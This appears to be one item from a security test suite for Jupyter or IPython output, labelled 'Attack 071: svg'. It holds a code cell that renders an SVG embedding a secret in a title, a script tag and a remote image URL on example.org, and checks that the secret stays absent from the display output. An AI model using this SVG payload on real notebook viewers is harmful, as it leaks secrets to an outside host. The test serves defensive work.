"""Attack 071: svg"""

IDEA = "A drawing with a script, a title and a remote image."
SOURCE = "SVG 2, scripting"
WAY = "iopub/display_data/data"
CODE = """
from IPython.display import SVG, display

display(
    SVG(
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><title>%s</title><script>%s</script><image href="https://example.org/%s"/></svg>'
        % (SECRET, SECRET, SECRET)
    )
)
"""
ABSENT = ["SECRET"]
WAIT = 2
